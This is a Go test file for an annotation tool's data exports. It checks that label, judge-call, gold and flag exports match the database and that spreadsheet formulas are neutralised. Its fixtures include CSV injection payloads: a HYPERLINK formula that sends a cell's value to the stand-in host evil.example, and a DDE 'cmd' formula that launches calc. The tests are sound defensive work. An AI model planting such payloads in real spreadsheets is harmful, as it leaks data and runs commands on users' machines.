package store_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/attune/attune/internal/agreement"
	"github.com/attune/attune/internal/attune"
	"github.com/attune/attune/internal/dbtest"
	"github.com/attune/attune/internal/export"
	"github.com/attune/attune/internal/store"
)

// awkward rationales: what CSV must quote, what a spreadsheet must not run.
var awkward = []string{
	"plain",
	`said "enough", then left`,
	"line one\nline two",
	"ünïcödé — “quotes” 😀 日本語",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"@SUM(A1)",
	"+1+2",
	"-3",
	"'already quoted",
}

// criteriaExportFixture labels a criteria project with awkward rationales,
// adds a judge with calls, applies the rule and settles one item.
func criteriaExportFixture(t *testing.T) *fixture {
	t.Helper()
	ctx := context.Background()
	f := newProject(t, dbtest.New(t), projectOpts{overlap: 2, items: 3, annotators: 2})
	f.labelWith(t, func(a int, source string) map[string]string {
		ans := map[string]string{}
		for k, v := range fullAnswers {
			ans[k] = v
		}
		if source == "item-001" && a == 1 {
			ans["CQ3"] = "NO" // a tie on CQ3
		}
		return ans
	}, func(a int, source string) map[string]string {
		notes := map[string]string{}
		i := 0
		for _, k := range []string{"CQ1", "CQ2", "CQ3", "CQ8", "CP3"} {
			notes[k] = awkward[(a*5+i+len(source))%len(awkward)]
			i++
		}
		return notes
	})
	withErr := map[string]string{}
	for k, v := range fullAnswers {
		withErr[k] = v
	}
	withErr["CQ8"] = "ERROR"
	f.judgeLabels(t, "=judge", map[string]map[string]string{"item-000": fullAnswers, "item-001": withErr})
	if _, err := f.db.ApplyConsensus(ctx, f.project.ID, store.ConsensusOptions{}); err != nil {
		t.Fatal(err)
	}
	settled := map[string]string{}
	for k, v := range fullAnswers {
		settled[k] = v
	}
	settled["CQ3"] = "NO"
	if err := f.db.Adjudicate(ctx, store.Adjudication{ProjectID: f.project.ID, ItemID: f.itemID(t, "item-001"), ActorID: f.lead.ID,
		Answers: settled, Note: "=not a formula, \"quoted\"\nsecond line"}); err != nil {
		t.Fatal(err)
	}
	return f
}

// readCSV reads an export back as encoding/csv does, undoing the formula
// neutralisation of the named text columns.
func readCSV(t *testing.T, b []byte, text ...string) (header []string, rows []map[string]string) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v", err)
	}
	header = recs[0]
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, name := range header {
			cell := rec[i]
			if slices.Contains(text, name) {
				cell = export.Restore(cell)
			}
			row[name] = cell
		}
		rows = append(rows, row)
	}
	return header, rows
}

func TestExportLabelsEqualsDatabase(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	f := criteriaExportFixture(t)

	// What the database holds, in the export's terms.
	dbRows, err := f.db.Pool().Query(ctx, `
		SELECT i.source_id, coalesce(u.email, r.name), r.kind, l.rubric_item_key, l.value, l.rationale, s.active_ms, l.created_at, coalesce(d.method, '')
		FROM labels l JOIN items i ON i.id = l.item_id JOIN answer_sets s ON s.id = l.answer_set_id JOIN raters r ON r.id = l.rater_id
		LEFT JOIN users u ON u.id = r.user_id LEFT JOIN judge_label_details d ON d.label_id = l.id
		WHERE i.project_id = $1`, f.project.ID)
	if err != nil {
		t.Fatal(err)
	}
	var want []string
	for dbRows.Next() {
		var item, rater, kind, key, value, note, method string
		var ms int64
		var at time.Time
		if err := dbRows.Scan(&item, &rater, &kind, &key, &value, &note, &ms, &at, &method); err != nil {
			t.Fatal(err)
		}
		want = append(want, strings.Join([]string{item, rater, kind, key, value, note, strconv.FormatInt(ms, 10), at.UTC().Format(time.RFC3339Nano), method}, "|"))
	}
	if err := dbRows.Err(); err != nil {
		t.Fatal(err)
	}
	dbRows.Close()
	slices.Sort(want)
	if len(want) != 2*3*12+2*12 {
		t.Fatalf("%d labels in the database", len(want))
	}

	for _, format := range []export.Format{export.CSV, export.JSONL} {
		var b bytes.Buffer
		w, _ := export.NewLabelWriter(&b, format)
		n, err := f.db.ExportLabels(ctx, f.project.ID, w.Write)
		if err != nil || w.Close() != nil || n != len(want) {
			t.Fatalf("%s: ExportLabels = %d, %v", format, n, err)
		}
		var got []string
		if format == export.CSV {
			_, rows := readCSV(t, b.Bytes(), "item_id", "rater", "rationale")
			for _, r := range rows {
				at, err := time.Parse(time.RFC3339Nano, r["created_at"])
				if err != nil {
					t.Fatal(err)
				}
				got = append(got, strings.Join([]string{r["item_id"], r["rater"], r["rater_kind"], r["rubric_item"], r["value"], r["rationale"],
					r["active_ms"], at.UTC().Format(time.RFC3339Nano), r["method"]}, "|"))
			}
			// The payloads reach a spreadsheet as text.
			for _, p := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, ",'@SUM(A1),", ",'+1+2,", ",-3,", ",''already quoted,", ",'=judge,"} {
				if !strings.Contains(b.String(), p) {
					t.Errorf("CSV lacks %s", p)
				}
			}
		} else {
			sc := bufio.NewScanner(&b)
			for sc.Scan() {
				var r struct {
					ItemID, Rater, RaterKind, RubricItem, Value, Rationale, CreatedAt string
					ActiveMS                                                          int64
					Method                                                            *string
				}
				var raw map[string]json.RawMessage
				if err := json.Unmarshal(sc.Bytes(), &raw); err != nil {
					t.Fatal(err)
				}
				json.Unmarshal(raw["item_id"], &r.ItemID)
				json.Unmarshal(raw["rater"], &r.Rater)
				json.Unmarshal(raw["rater_kind"], &r.RaterKind)
				json.Unmarshal(raw["rubric_item"], &r.RubricItem)
				json.Unmarshal(raw["value"], &r.Value)
				json.Unmarshal(raw["rationale"], &r.Rationale)
				json.Unmarshal(raw["active_ms"], &r.ActiveMS)
				json.Unmarshal(raw["created_at"], &r.CreatedAt)
				json.Unmarshal(raw["method"], &r.Method)
				at, _ := time.Parse(time.RFC3339Nano, r.CreatedAt)
				method := ""
				if r.Method != nil {
					method = *r.Method
				}
				got = append(got, strings.Join([]string{r.ItemID, r.Rater, r.RaterKind, r.RubricItem, r.Value, r.Rationale,
					strconv.FormatInt(r.ActiveMS, 10), at.UTC().Format(time.RFC3339Nano), method}, "|"))
			}
		}
		slices.Sort(got)
		if !slices.Equal(got, want) {
			for i := range min(len(got), len(want)) {
				if got[i] != want[i] {
					t.Fatalf("%s: first difference:\n got %q\nwant %q", format, got[i], want[i])
				}
			}
			t.Fatalf("%s: %d rows, want %d", format, len(got), len(want))
		}
	}
}

func TestExportJudgeCallsEqualsDatabase(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	f := criteriaExportFixture(t)
	rows, err := f.db.Pool().Query(ctx, `SELECT c.run_id, c.model, c.rubric_item_key, c.input_tokens, c.cached_tokens, c.output_tokens,
		c.cost_usd::text, c.latency_ms, c.ok, c.error, c.raw, c.prompt_hash FROM judge_calls c ORDER BY c.id`)
	if err != nil {
		t.Fatal(err)
	}
	var want []string
	for rows.Next() {
		var run int64
		var model, key, cost, errText, raw, hash string
		var in, cached, out, lat int
		var ok bool
		if err := rows.Scan(&run, &model, &key, &in, &cached, &out, &cost, &lat, &ok, &errText, &raw, &hash); err != nil {
			t.Fatal(err)
		}
		want = append(want, fmt.Sprint(run, "|", model, "|", key, "|", in, "|", cached, "|", out, "|", cost, "|", lat, "|", ok, "|", errText, "|", raw, "|", hash))
	}
	if err := rows.Err(); err != nil {
		t.Fatal(err)
	}
	rows.Close()
	var b bytes.Buffer
	w, _ := export.NewJudgeCallWriter(&b, export.CSV)
	if n, err := f.db.ExportJudgeCalls(ctx, f.project.ID, w.Write); err != nil || n != len(want) || n != 24 {
		t.Fatalf("ExportJudgeCalls = %d, %v; want %d", n, err, len(want))
	}
	w.Close()
	header, got := readCSV(t, b.Bytes(), "judge", "raw", "error")
	if strings.Join(header, ",") != "run_id,judge,model,item_id,system,rubric_item,sample,reask,prompt_hash,input_tokens,cached_tokens,output_tokens,cost_usd,latency_ms,ok,error,raw,created_at" {
		t.Fatalf("header = %v", header)
	}
	for i, r := range got {
		line := strings.Join([]string{r["run_id"], r["model"], r["rubric_item"], r["input_tokens"], r["cached_tokens"], r["output_tokens"],
			r["cost_usd"], r["latency_ms"], r["ok"], r["error"], r["raw"], r["prompt_hash"]}, "|")
		if line != want[i] {
			t.Fatalf("call %d:\n got %q\nwant %q", i, line, want[i])
		}
		if r["judge"] != "=judge" || !strings.HasPrefix(r["item_id"], "item-") {
			t.Fatalf("call %d judge %q item %q", i, r["judge"], r["item_id"])
		}
	}
	// A raw reply with a formula payload is neutralised only where it
	// starts one; costs are numbers, untouched.
	if !strings.Contains(b.String(), `"{""score"": ""YES"", ""note"": ""=cmd|' /C calc'!A0""}"`) || !strings.Contains(b.String(), ",'=judge,") {
		t.Fatal("raw reply or judge name not written as expected")
	}
}

func TestExportGoldEqualsDatabase(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	f := criteriaExportFixture(t)
	def, err := f.db.FindRubricByID(ctx, f.project.RubricVersionID)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	var w *export.GoldWriter
	n, err := f.db.ExportGold(ctx, f.project.ID, true, func(raters []export.Rater) error {
		if len(raters) != 3 || raters[0].Kind != "human" || raters[2].Kind != "judge" {
			return fmt.Errorf("raters = %+v", raters)
		}
		w, err = export.NewGoldWriter(&b, export.CSV, def, raters)
		return err
	}, func(it *export.GoldItem) error { return w.Write(it) })
	if err != nil || n != 3 {
		t.Fatalf("ExportGold = %d, %v", n, err)
	}
	w.Close()
	header, rows := readCSV(t, b.Bytes(), "note")
	if len(header) != 3+12+10+3*12 {
		t.Fatalf("%d columns", len(header))
	}
	bySource := map[string]map[string]string{}
	for _, r := range rows {
		bySource[r["item_id"]] = r
	}
	// Gold values equal gold_labels.
	for source, r := range bySource {
		stored := goldOf(t, f.db, f.itemID(t, source))
		for _, it := range def.Items {
			var want string
			if v, ok := stored[it.Key]; ok {
				want = strings.Split(v, "/")[0]
			}
			if r["gold_"+it.Key] != want {
				t.Errorf("%s gold_%s = %q, want %q", source, it.Key, r["gold_"+it.Key], want)
			}
		}
		if r["human_raters"] != "2" {
			t.Errorf("%s human_raters = %s", source, r["human_raters"])
		}
	}
	a, s, o := bySource["item-000"], bySource["item-001"], bySource["item-002"]
	if a["decided"] != "automatic" || a["decided_by"] != "rule" || !strings.Contains(a["note"], "CQ1: unanimous: 2 of 2") || a["score"] != "1" || a["pass"] != "true" {
		t.Errorf("automatic row = %v", a)
	}
	if s["decided"] != "adjudicated" || s["decided_by"] != "lead@example.org" || s["note"] != "=not a formula, \"quoted\"\nsecond line" ||
		s["failed_checks"] != "CQ3" || s["safety_gate_failed"] != "false" || s["agreement"] != "0.9167" {
		t.Errorf("adjudicated row = %v", s)
	}
	if o["decided"] != "automatic" || o["human:ann00@example.org:CQ3"] != "YES" || o["judge:=judge:CQ8"] != "" {
		t.Errorf("row of item-002 = %v", o)
	}
	if s["judge:=judge:CQ8"] != "ERROR" || a["judge:=judge:CQ8"] != "YES" {
		t.Errorf("judge columns: %q, %q", s["judge:=judge:CQ8"], a["judge:=judge:CQ8"])
	}
	// The item's agreement is percent agreement with its rubric items as
	// units, as the agreement package computes it.
	r := agreement.NewRatings()
	rows2, err := f.db.Pool().Query(ctx, `SELECT l.rubric_item_key, l.rater_id::text, l.value FROM labels l JOIN raters r ON r.id = l.rater_id
		WHERE l.item_id = $1 AND r.kind = 'human'`, f.itemID(t, "item-001"))
	if err != nil {
		t.Fatal(err)
	}
	var values []string
	for rows2.Next() {
		var k, rater, v string
		if err := rows2.Scan(&k, &rater, &v); err != nil {
			t.Fatal(err)
		}
		r.Add(k, rater, v)
		values = append(values, v)
	}
	if err := rows2.Err(); err != nil {
		t.Fatal(err)
	}
	rows2.Close()
	scale, _ := agreement.InferScale(values)
	units, err := r.Units(scale)
	if err != nil {
		t.Fatal(err)
	}
	pa := agreement.PercentAgreement(units)
	if got, _ := strconv.ParseFloat(s["agreement"], 64); !pa.Defined || math.Abs(got-pa.Value) > 5e-5 {
		t.Fatalf("agreement = %v, PercentAgreement = %+v", got, pa)
	}
}

// TestExportStopsOnEmitError shows that a failing writer (a client gone)
// stops the stream with its error.
func TestExportStopsOnEmitError(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	f := criteriaExportFixture(t)
	boom := fmt.Errorf("client went away")
	n, err := f.db.ExportLabels(ctx, f.project.ID, func(*export.Label) error { return boom })
	if err != boom || n != 0 {
		t.Fatalf("labels: %d, %v", n, err)
	}
	n, err = f.db.ExportGold(ctx, f.project.ID, false, func([]export.Rater) error { return nil }, func(*export.GoldItem) error { return boom })
	if err != boom || n != 0 {
		t.Fatalf("gold: %d, %v", n, err)
	}
	if err := f.db.RecordExport(ctx, store.ExportEvent{ProjectID: f.project.ID, Dataset: "labels", Format: export.CSV, Rows: 0, Via: "cli", Err: boom.Error()}); err != nil {
		t.Fatal(err)
	}
	if got := auditActions(t, f.db, "export."); len(got) != 1 || !strings.Contains(got[0], `"complete": "false"`) {
		t.Fatalf("audit = %q", got)
	}
}

// TestExportsCarryTheSystem exports labels, judge calls and gold of a
// project whose system key is "arm" and wants each row's system column to
// be its item's meta under that key: item-000 names arm a, item-001 arm b
// (and a "system" the project does not read), item-002 no arm at all.
func TestExportsCarryTheSystem(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	f := criteriaExportFixture(t)
	if _, err := f.db.Pool().Exec(ctx, `UPDATE projects SET system_key = 'arm' WHERE id = $1`, f.project.ID); err != nil {
		t.Fatal(err)
	}
	for source, meta := range map[string]string{"item-000": `{"arm":"a"}`, "item-001": `{"arm":"b","system":"x"}`, "item-002": `{"system":"x"}`} {
		if _, err := f.db.Pool().Exec(ctx, `UPDATE items SET meta = $3::jsonb WHERE project_id = $1 AND source_id = $2`, f.project.ID, source, meta); err != nil {
			t.Fatal(err)
		}
	}
	want := map[string]string{"item-000": "a", "item-001": "b", "item-002": ""}
	check := func(what string, b []byte, rows int) {
		t.Helper()
		header, got := readCSV(t, b, "system")
		if i := slices.Index(header, "system"); i < 0 || header[i-1] != "item_id" {
			t.Fatalf("%s header %v: want system beside item_id", what, header)
		}
		if len(got) != rows {
			t.Fatalf("%s: %d rows, want %d", what, len(got), rows)
		}
		for i, r := range got {
			if w, ok := want[r["item_id"]]; !ok || r["system"] != w {
				t.Errorf("%s row %d: item %q system %q, want %q", what, i, r["item_id"], r["system"], w)
			}
		}
	}
	var b bytes.Buffer
	lw, _ := export.NewLabelWriter(&b, export.CSV)
	n, err := f.db.ExportLabels(ctx, f.project.ID, lw.Write)
	if err != nil {
		t.Fatal(err)
	}
	lw.Close()
	check("labels", b.Bytes(), n)

	b.Reset()
	jw, _ := export.NewJudgeCallWriter(&b, export.CSV)
	if n, err = f.db.ExportJudgeCalls(ctx, f.project.ID, jw.Write); err != nil {
		t.Fatal(err)
	}
	jw.Close()
	check("judge calls", b.Bytes(), n)

	def, err := f.db.FindRubricByID(ctx, f.project.RubricVersionID)
	if err != nil {
		t.Fatal(err)
	}
	b.Reset()
	var gw *export.GoldWriter
	n, err = f.db.ExportGold(ctx, f.project.ID, false, func(raters []export.Rater) error {
		gw, err = export.NewGoldWriter(&b, export.CSV, def, raters)
		return err
	}, func(it *export.GoldItem) error { return gw.Write(it) })
	if err != nil || n != 3 {
		t.Fatalf("ExportGold = %d, %v", n, err)
	}
	gw.Close()
	check("gold", b.Bytes(), n)
}

// TestFlagsExportCarriesTheSystem flags the three items of a project whose
// system key is "arm" and wants the flags export's system column, beside
// item_id, to be each flagged item's meta under that key: item-000 names
// arm a, item-001 arm b (and a "system" the project does not read),
// item-002 no arm at all.
func TestFlagsExportCarriesTheSystem(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	f := newProject(t, dbtest.New(t), projectOpts{overlap: 1, items: 3, annotators: 3})
	if _, err := f.db.Pool().Exec(ctx, `UPDATE projects SET system_key = 'arm' WHERE id = $1`, f.project.ID); err != nil {
		t.Fatal(err)
	}
	for source, meta := range map[string]string{"item-000": `{"arm":"a"}`, "item-001": `{"arm":"b","system":"x"}`, "item-002": `{"system":"x"}`} {
		if _, err := f.db.Pool().Exec(ctx, `UPDATE items SET meta = $3::jsonb WHERE project_id = $1 AND source_id = $2`, f.project.ID, source, meta); err != nil {
			t.Fatal(err)
		}
	}
	// Each flagged item is taken out of the pool, so that the next
	// annotator is handed, and flags, the next item.
	for _, ann := range f.annotators {
		a := f.flagItem(t, ann, "broken", "")
		if _, err := f.db.ResolveFlag(ctx, store.FlagResolution{ActorID: f.lead.ID, ProjectID: f.project.ID, FlagID: a.ID, How: attune.ResolvePulled}); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	fw, err := export.NewFlagWriter(&b, export.CSV)
	if err != nil {
		t.Fatal(err)
	}
	n, err := f.db.ExportFlags(ctx, f.project.ID, fw.Write)
	if err != nil || n != 3 {
		t.Fatalf("ExportFlags = %d, %v; want 3 flags", n, err)
	}
	if err := fw.Close(); err != nil {
		t.Fatal(err)
	}
	header, rows := readCSV(t, b.Bytes(), "item_id", "system")
	if i := slices.Index(header, "system"); i < 1 || header[i-1] != "item_id" {
		t.Fatalf("header %v: want system beside item_id", header)
	}
	want := map[string]string{"item-000": "a", "item-001": "b", "item-002": ""}
	seen := map[string]bool{}
	for i, r := range rows {
		if w, ok := want[r["item_id"]]; !ok || r["system"] != w {
			t.Errorf("row %d: item %q system %q, want %q", i, r["item_id"], r["system"], w)
		}
		seen[r["item_id"]] = true
	}
	if len(seen) != len(want) {
		t.Errorf("flagged items %v, want every one of %v", seen, want)
	}
}
